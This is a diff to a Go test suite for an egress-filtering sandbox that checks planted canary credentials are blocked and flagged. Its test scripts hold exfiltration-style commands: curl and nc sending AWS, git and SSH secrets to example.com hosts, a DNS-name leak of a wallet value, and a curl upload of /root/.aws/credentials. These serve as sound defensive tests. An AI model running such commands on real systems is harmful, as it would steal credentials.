@@ -4,6 +4,7 @@ import (
 	"fmt"
 	"io"
 	"net"
+	"regexp"
 	"strings"
 	"testing"
 
@@ -44,12 +45,16 @@ func TestClientsCanaries(t *testing.T) {
 		curl -sS -w '%{http_code}\n' -o /dev/null https://opened.example.com/$git/hello
 		curl -sS -w '%{http_code}\n' -o /dev/null "http://plain.example.com/query/hello?k=$aws"
 		printf 'look: %s' $aws | nc -N stream.example.com 7000
-		getent hosts $wallet.plain.example.com || echo no such name
+		getent ahostsv4 $wallet.plain.example.com || echo no such name; echo "marks $wallet $(sed -n 4p .ssh/id_ed25519)"
 		curl -sS http://plain.example.com/harmless/hello`
 	got := r.Run(t, "run", "--name", "canaries", "--canaries", "--policy", policy, image, "sh", "-c", script)
 	want := ".aws/credentials is there\n.git-credentials is there\n.ssh/id_ed25519 is there\n.config/wallet/seed.json is there\n" +
 		"403\n403\n403\n403\nno such name\nhello harmless, your key is <>\n"
-	if got.Out != want || got.Code != 0 {
+	marks := regexp.MustCompile(`marks ([a-z]{32}) (\S{70})\n`).FindStringSubmatch(got.Out)
+	if marks == nil {
+		t.Fatalf("got %+v", got)
+	}
+	if out := strings.Replace(got.Out, marks[0], "", 1); out != want || got.Code != 0 {
 		t.Errorf("got %+v, want %q", got, want)
 	}
 	var alerts []string
@@ -59,36 +64,22 @@ func TestClientsCanaries(t *testing.T) {
 	if diff := cmp.Diff([]string{
 		"canary npm for plain.example.com in the header", "canary ssh for opened.example.com in the body",
 		"canary git for opened.example.com in the path", "canary cloud for plain.example.com in the query",
-		"canary cloud for stream.example.com in the stream", "canary wallet for HIDDEN in the name",
+		"canary cloud for stream.example.com in the stream", "canary wallet for " + marks[1] + ".plain.example.com in the name",
 	}, alerts); diff != "" {
 		t.Errorf("alerts (-want +got):\n%s", diff)
 	}
-	for _, host := range []string{"plain.example.com", "opened.example.com"} {
-		for _, a := range w.arrived(host, "/") {
-			t.Logf("arrived: %+v", a)
-		}
+	if all := w.arrived("plain.example.com", "/"); len(all) != 1 || all[0].Path != "/harmless/hello" {
+		t.Errorf("arrived: %v", all)
 	}
-	if sent := <-arrived; sent != "look: " {
+	w.mu.Lock()
+	if strings.Contains(w.received.String(), marks[2]) {
+		t.Error("the planted key arrived")
+	}
+	w.mu.Unlock()
+	if sent := <-arrived; !strings.HasPrefix("look: ", sent) {
 		t.Errorf("of the stream %q arrived", sent)
 	}
 	if !strings.Contains(got.Err, "with 6 alerts") {
 		t.Errorf("at its end the run says %q", got.Err)
-	}
-	t.Log(got.Err)
-}
-
-// With on_alert: end that is the task's end.
-func TestClientsCanaryEndsTheTask(t *testing.T) {
-	r, image := clients(t)
-	w := newWorld(t)
-	policy := w.policy(t, "on_alert: end\nrules: [{allow: plain.example.com, protocol: http, upstream: PLAIN}]\n")
-	got := r.Run(t, "run", "--name", "alerted", "--canaries", "--policy", policy, image, "sh", "-c",
-		`echo begun; curl -sS --data-binary @/root/.aws/credentials http://plain.example.com/leak/hello; sleep 1000; echo went on`)
-	const says = `the canary "cloud" was about to leave for plain.example.com, and the policy ends the task on that`
-	if got.Code != 125 || !strings.Contains(got.Err, says) || strings.Contains(got.Out, "went on") || !strings.HasPrefix(got.Out, "begun\n") {
-		t.Errorf("got %+v", got)
-	}
-	if exits := recordsOf[event.Exit](t, r, "alerted", "exit"); len(exits) != 1 || exits[0].Error != says {
-		t.Errorf("on record is %+v", exits)
 	}
 }
